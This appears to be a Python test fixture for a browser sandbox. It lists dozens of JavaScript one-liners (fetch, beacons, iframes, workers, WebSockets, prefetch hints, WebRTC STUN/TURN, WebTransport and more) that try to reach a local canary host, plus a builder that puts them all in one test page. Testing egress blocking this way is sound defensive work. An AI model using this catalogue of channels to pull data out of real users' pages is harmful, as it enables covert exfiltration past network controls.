"""Ways out that a page's scripts may try; each is aimed at a nest of its own in the canary."""

from collections.abc import Callable

from tests.fakes.canary import Canary

LEAK = "http://127.0.0.1:{port}/{name}"
NAMED = "http://leak.localhost:{port}/{name}"

BY_PAGE = {
    "fetch": f"fetch('{LEAK}').then(r => r.text()).then(show)",
    "fetch by name": f"fetch('{NAMED}').then(r => r.text()).then(show)",
    "fetch to localhost": "fetch('http://localhost:{port}/').then(r => r.text()).then(show)",
    "fetch to IPv6": "fetch('http://[::1]:{port}/').then(r => r.text()).then(show)",
    "fetch that outlives the page": f"fetch('{LEAK}', {{keepalive: true}})",
    "fetch without CORS": f"fetch('{LEAK}', {{mode: 'no-cors'}})",
    "xhr": f"xhr('{LEAK}')",
    "beacon": f"navigator.sendBeacon('{LEAK}', 'data')",
    "image": f"new Image().src = '{LEAK}'",
    "script": f"add('script', {{src: '{LEAK}'}})",
    "stylesheet": f"add('link', {{rel: 'stylesheet', href: '{LEAK}'}})",
    "style import": f"add('style', {{textContent: '@import url({LEAK})'}})",
    "font": f"new FontFace('f', 'url({LEAK})').load().catch(() => 0)",
    "video": f"add('video', {{src: '{LEAK}', preload: 'auto'}})",
    "object": f"add('object', {{data: '{LEAK}', type: 'text/html'}})",
    "embed": f"add('embed', {{src: '{LEAK}'}})",
    "iframe": f"add('iframe', {{src: '{LEAK}'}})",
    "srcdoc": f"add('iframe', {{srcdoc: `<img src={LEAK}><script>fetch('{LEAK}')</script>`}})",
    "data iframe": f"add('iframe', {{src: `data:text/html,<script>fetch('{LEAK}')</script>`}})",
    "blob iframe": f"add('iframe', {{src: blob(`<script>fetch('{LEAK}')</script>`, 'text/html')}})",
    "sandboxed iframe": f"add('iframe', {{sandbox: 'allow-scripts', srcdoc: `<img src='{LEAK}'>`}})",
    "form get": f"submit('{LEAK}', 'GET')",
    "form post": f"submit('{LEAK}', 'POST')",
    "ping": f"a = add('a', {{href: '#', ping: '{LEAK}'}}); a.click()",
    "window.open": f"window.open('{LEAK}')",
    "event source": f"new EventSource('{LEAK}').onmessage = e => show(e.data)",
    "worker": f"work(`fetch('{LEAK}').then(r => r.text()).then(postMessage)`)",
    "worker import": f"new Worker(blob(`importScripts('{LEAK}')`))",
    "shared worker": f"new SharedWorker(blob(`fetch('{LEAK}')`))",
    "websocket": "new WebSocket('ws://127.0.0.1:{port}/').onmessage = e => show(e.data)",
    "websocket by name": "new WebSocket('ws://leak.localhost:{port}/')",
    "websocket of a worker": "new Worker(blob(`new WebSocket('ws://127.0.0.1:{port}/')`))",
    "prefetch": f"add('link', {{rel: 'prefetch', href: '{LEAK}'}})",
    "preload": f"l = add('link', {{rel: 'preload', href: '{LEAK}'}}); l.as = 'script'",
    "module preload": f"add('link', {{rel: 'modulepreload', href: '{LEAK}'}})",
    "module import": f"import('{LEAK}').catch(() => 0)",
    "preconnect": "add('link', {rel: 'preconnect', href: 'http://127.0.0.1:{port}'})",
    "preconnect by name": "add('link', {rel: 'preconnect', href: 'http://leak.localhost:{port}'})",
    "dns prefetch": "add('link', {rel: 'dns-prefetch', href: 'http://leak.localhost:{port}'})",
    "icon": f"add('link', {{rel: 'icon', href: '{LEAK}'}})",
    "manifest": f"add('link', {{rel: 'manifest', href: '{LEAK}'}})",
    "speculative prefetch": f"speculate('prefetch', '{LEAK}')",
    "speculative prerender": f"speculate('prerender', '{LEAK}')",
    "stun": "call('stun:127.0.0.1:{port}')",
    "turn over udp": "call('turn:127.0.0.1:{port}')",
    "turn over tcp": "call('turn:127.0.0.1:{port}?transport=tcp')",
    "redirected fetch": "fetch('/to?port={port}').then(r => r.text()).then(show)",
    "redirected iframe": "add('iframe', {src: '/to?port={port}'})",
    "redirected script": "add('script', {src: '/to?port={port}'})",
    "svg image": f"add('div', {{innerHTML: `<svg><image href='{LEAK}'/></svg>`}})",
    "xslt": f"fetch(blob(`<?xml version='1.0'?><!DOCTYPE a SYSTEM '{LEAK}'><a/>`, 'text/xml'))",
}
"""From a page over plain HTTP; `show` puts what came back into the page."""

BY_SECURE_PAGE = {
    "secure fetch": "fetch('https://127.0.0.1:{port}/').then(r => r.text()).then(show)",
    "secure websocket": "new WebSocket('wss://127.0.0.1:{port}/')",
    "websocket stream": "new WebSocketStream('wss://127.0.0.1:{port}/')",
    "service worker": "navigator.serviceWorker.register('/worker.js?port={port}')",
    "web transport": "new WebTransport('https://127.0.0.1:{port}/').ready.catch(() => 0)",
    "web transport by name": "new WebTransport('https://leak.localhost:{port}/').ready.catch(() => 0)",
    "secure preconnect": "add('link', {rel: 'preconnect', href: 'https://127.0.0.1:{port}'})",
    "secure speculative prefetch": "speculate('prefetch', 'https://127.0.0.1:{port}/')",
    "audio worklet": "new AudioContext().audioWorklet.addModule('https://127.0.0.1:{port}/').catch(() => 0)",
    "secure stun": "call('stun:127.0.0.1:{port}')",
    "secure turn": "call('turns:127.0.0.1:{port}?transport=tcp')",
    "loopback over http": "fetch('http://127.0.0.1:{port}/').then(r => r.text()).then(show)",
}
"""From a page over TLS, which may use what browsers keep from others."""

TOOLS = """
const show = text => document.body.append(text);
const add = (name, properties) => {
  const element = Object.assign(document.createElement(name), properties);
  document.body.append(element);
  return element;
};
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], {type}));
const xhr = url => {
  const request = new XMLHttpRequest();
  request.open('GET', url);
  request.onload = () => show(request.responseText);
  request.send();
};
const work = code => { new Worker(blob(code)).onmessage = event => show(event.data); };
const submit = (action, method) => {
  const frame = add('iframe', {name: 'f' + Math.random()});
  add('form', {action, method, target: frame.name, innerHTML: '<input name=a value=b>'}).submit();
};
const speculate = (kind, url) =>
  add('script', {type: 'speculationrules', textContent: JSON.stringify(
    {[kind]: [{source: 'list', urls: [url], eagerness: 'immediate'}]})});
const call = url => {
  const peer = new RTCPeerConnection({iceServers: [{urls: url, username: 'u', credential: 'c'}]});
  peer.createDataChannel('d');
  peer.createOffer().then(offer => peer.setLocalDescription(offer));
};
"""


def page_of(attempts: dict[str, str], port_of: Callable[[str], int]) -> str:
    """A page that makes every attempt, and says at its end that it has."""
    lines = []
    for number, (name, code) in enumerate(attempts.items()):
        aimed = code.replace("{port}", str(port_of(name))).replace("{name}", name.replace(" ", "-"))
        aimed = aimed.replace("{{", "{").replace("}}", "}").replace("</script>", "<\\/script>")
        lines.append(f"try {{ {aimed} }} catch (error) {{ failed.push({number} + ': ' + error) }}")
    body = "\n".join(lines)
    return (
        f"<!doctype html><title>escapes</title><body><main><p>before</p></main><script>{TOOLS}"
        f"const failed = [];\n{body}\n"
        "document.querySelector('main').append(`tried ${failed.join(' | ') || 'everything'}`)</script>"
    )


def nests(canary: Canary, attempts: dict[str, str]) -> dict[str, int]:
    return {name: canary.nest(name) for name in attempts}
